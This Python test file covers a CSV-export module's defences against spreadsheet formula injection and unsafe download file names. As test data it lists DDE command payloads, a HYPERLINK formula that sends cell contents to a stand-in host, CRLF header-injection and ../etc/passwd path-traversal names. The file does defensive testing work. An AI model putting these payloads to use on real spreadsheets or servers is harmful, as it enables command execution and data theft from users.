"""CSV for spreadsheets: what OWASP lists is not run, numbers stay, names of files inject nothing."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chassis.csv_files import Rewriter, attachment, escaped, rows

HOSTILE = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "-",
    "+",
    "--5",
    "=",
    "+1-1",
    "-5;=1+1",
]  # fmt: skip


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_a_spreadsheet_would_run_stands_behind_an_apostrophe(cell):
    assert escaped(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell",
    ["", "a", "5", "-5", "+5", "-5.25", "-1,234.5", "-3e10", "-12%", "a=b", "'x", "1-2", "ü"],
)
def test_text_and_numbers_stay_as_they_are(cell):
    assert escaped(cell) == cell


def test_unless_asked_not_to():
    assert rows([["=1", "-5"]], escape=False) == "=1,-5\r\n"
    assert rows([["=1", "-5"]]) == "'=1,-5\r\n"


cells = st.one_of(st.sampled_from([*HOSTILE, '"', ",", "\n", "a\r\nb", ""]), st.text(max_size=5))


@given(st.lists(st.lists(cells, min_size=2, max_size=4), max_size=6), st.integers(1, 50))
def test_a_file_is_escaped_wherever_its_pieces_are_cut(records, size):
    records = [[cell.encode(errors="replace").decode() for cell in record] for record in records]
    data = rows(records, escape=False).encode()
    rewriter = Rewriter()
    pieces = [rewriter.feed(data[start : start + size]) for start in range(0, len(data), size)]
    told = b"".join([*pieces, rewriter.close()]).decode()
    assert told == rows(records)
    read = csv.reader(io.StringIO(told, newline=""))
    assert list(read) == [[escaped(cell) for cell in record] for record in records]


def test_a_record_is_looked_through_once_however_many_pieces_it_comes_in():
    """Looked through from its beginning with each piece, it would take hours."""
    piece, rewriter = b"=x,\n" * 16, Rewriter()
    assert rewriter.feed(b'"') == b""
    assert not any(rewriter.feed(piece) for _ in range(500_000))
    assert rewriter.feed(b'"\r\n=1') == b'"' + b"'" + piece * 500_000 + b'"\r\n'
    assert rewriter.close() == b"'=1\r\n"


@pytest.mark.parametrize(
    ("name", "plain", "whole"),
    [
        ("wells rejects.csv", "wells rejects.csv", "wells%20rejects.csv"),
        ("कुएँ.csv", "____.csv", "%E0%A4%95%E0%A5%81%E0%A4%8F%E0%A4%81.csv"),
        ('a"; filename="b.exe', "a ; filename= b.exe", "a%20%3B%20filename%3D%20b.exe"),
        ("a\r\nSet-Cookie: x=1.csv", "a Set-Cookie  x=1.csv", "a%20Set-Cookie%20%20x%3D1.csv"),
        ("../../etc/passwd", "etc passwd", "etc%20passwd"),
        ("\ud800", "file", "file"),
        ("100%.csv", "100_.csv", "100%25.csv"),
    ],
)
def test_a_file_name_is_told_whole_and_adds_no_header(name, plain, whole):
    told = attachment(name)
    assert told == f"attachment; filename=\"{plain}\"; filename*=UTF-8''{whole}"
    assert told.isascii()
    assert told.isprintable()
